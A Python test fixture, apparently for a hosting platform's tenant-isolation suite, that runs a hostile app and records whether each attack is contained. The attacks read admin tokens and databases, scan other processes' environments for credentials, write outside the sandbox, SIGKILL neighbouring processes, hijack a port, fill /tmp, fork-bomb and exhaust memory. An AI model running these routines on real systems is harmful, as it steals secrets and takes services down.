"""A hostile app for the tenancy suite: it serves normally and, once, tries every attack of issue 15.

Each attack's outcome is recorded as {"contained": bool, "detail": str} and served
at /report; the test reads it through the router. Targets (paths, pids, ports) come
from the environment the test wrote into conveyor.toml. Attacks that could take
the instance down (fork bomb, memory) run in child processes.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

REPORT: dict[str, dict[str, object]] = {}
DONE = threading.Event()
T = {k[len("EVIL_"):].lower(): v for k, v in os.environ.items() if k.startswith("EVIL_")}


def record(name: str, contained: bool, detail: str) -> None:
    REPORT[name] = {"contained": contained, "detail": detail}


def try_read(name: str, *paths: str) -> None:
    for p in paths:
        try:
            data = Path(p).read_bytes()
        except OSError as exc:
            continue_detail = f"{p}: {exc.__class__.__name__}"
            REPORT.setdefault(name, {"contained": True, "detail": ""})
            REPORT[name]["detail"] = f"{REPORT[name]['detail']} {continue_detail}".strip()
            continue
        record(name, False, f"read {len(data)} bytes of {p}")
        return


def try_write(name: str, *paths: str) -> None:
    for p in paths:
        try:
            Path(p).write_text("pwned")
        except OSError as exc:
            REPORT.setdefault(name, {"contained": True, "detail": ""})
            REPORT[name]["detail"] = f"{REPORT[name]['detail']} {p}: {exc.__class__.__name__}".strip()
            continue
        record(name, False, f"wrote {p}")
        return


def attacks() -> None:
    data = T["data_dir"]
    agent_data = os.environ.get("CONVEYOR_AGENT_DATA")
    record("agent_data_env", agent_data is None, f"CONVEYOR_AGENT_DATA={agent_data!r}")
    try_read("admin_token", f"{data}/admin-token", *([f"{agent_data}/../admin-token"] if agent_data else []))
    try_read("database", f"{data}/conveyor.db")
    try_read("join_tokens", f"{data}/agent-join-token", f"{data}/router-join-token")
    try_read("client_config", T["client_config"])
    try_read("agent_state", f"{data}/agent/agent-state.json")
    # Other apps' files (their images, their writable directories) and the platform's: everything
    # under the data dir that is not this instance's own image or directory.
    own = (str(Path.cwd().parent), os.environ.get("HOME", "/nonexistent"))
    found = []
    for dirpath, _dirs, files in os.walk(data):
        if dirpath.startswith(own):
            continue
        found += [f"{dirpath}/{f}" for f in files]
    record("other_apps_files", not found, f"found {len(found)} files: {found[:3]}")
    # Credentials in other processes' environments.
    leaked = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                env = Path(f"/proc/{pid}/environ").read_bytes()
            except OSError:
                continue
            entries = env.split(b"\0")
            if any(e.startswith((b"CONVEYOR_TOKEN=", b"SECRET=")) for e in entries) or any(
                    hashlib.sha256(e.split(b"=", 1)[-1]).hexdigest() == T["admin_token_sha256"] for e in entries):
                leaked.append(pid)
    record("proc_environ", not leaked, f"credentials in the environ of pids {leaked}; visible pids: {len(os.listdir('/proc'))}")
    try_write("write_outside", f"{os.getcwd()}/pwned", "/etc/pwned", f"{data}/pwned", "/usr/pwned")
    home = os.environ.get("HOME", "")
    try:
        Path(home, "mine").write_text("ok")
        record("write_own_dir", True, f"wrote {home}/mine")
    except OSError as exc:
        record("write_own_dir", False, f"cannot write its own dir {home}: {exc}")
    # Signals to the agent, the router, the neighbour.
    results = []
    for what in ("agent_pid", "router_pid", "server_pid", "neighbour_pid"):
        try:
            os.kill(int(T[what]), signal.SIGKILL)
            results.append(f"{what}: KILLED")
        except OSError as exc:
            results.append(f"{what}: {errno.errorcode.get(exc.errno or 0, exc)}")
    record("signal_others", not any("KILLED" in r for r in results), "; ".join(results))
    # Bind the router's port (with SO_REUSEPORT too, which would share it with a same-user socket).
    bound = []
    for host in ("127.0.0.1", "0.0.0.0"):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            s.bind((host, int(T["router_port"])))
            s.listen()
            bound.append(host)
        except OSError as exc:
            pass
        finally:
            s.close()
    record("bind_router_port", not bound, f"bound on {bound}" if bound else "EADDRINUSE")
    # Fill /tmp.
    written = 0
    try:
        with open("/tmp/fill", "wb") as f:
            chunk = b"x" * (1 << 20)
            while written < (1 << 30):
                f.write(chunk)
                f.flush()
                written += len(chunk)
    except OSError as exc:
        record("fill_tmp", written < (1 << 30), f"stopped after {written >> 20} MiB: {exc.__class__.__name__}")
    else:
        record("fill_tmp", False, f"wrote {written >> 20} MiB")
    os.unlink("/tmp/fill")
    # Fork bomb, in a child: how many processes it gets before fork fails.
    bomb = subprocess.run([sys.executable, "-c", FORK_BOMB], capture_output=True, text=True, timeout=120)
    n = int((bomb.stdout.strip() or "-1").splitlines()[-1])
    record("fork_bomb", 0 <= n < int(T["pids_limit"]), f"{n} processes before fork failed (limit {T['pids_limit']})")
    # Allocate far past the memory limit, in a child: the OOM killer ends it, not the host.
    hog = subprocess.run([sys.executable, "-c", "b = []\nwhile True: b.append(bytearray(16 << 20))"],
                         capture_output=True, timeout=120)
    record("memory", hog.returncode == -signal.SIGKILL, f"the allocating child ended with {hog.returncode}")
    DONE.set()


FORK_BOMB = """
import os, sys, time
kids = []
while len(kids) < 100000:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    kids.append(pid)
print(len(kids), flush=True)
for k in kids:
    os.kill(k, 9)
for k in kids:
    os.waitpid(k, 0)
"""


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802
        if self.path == "/report":
            body = json.dumps({"done": DONE.is_set(), "attacks": REPORT}).encode()
        else:
            body = b"evil\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


if __name__ == "__main__":
    server = ThreadingHTTPServer((os.environ.get("HOST", "127.0.0.1"), int(os.environ["PORT"])), Handler)
    threading.Thread(target=attacks, daemon=True).start()
    server.serve_forever()
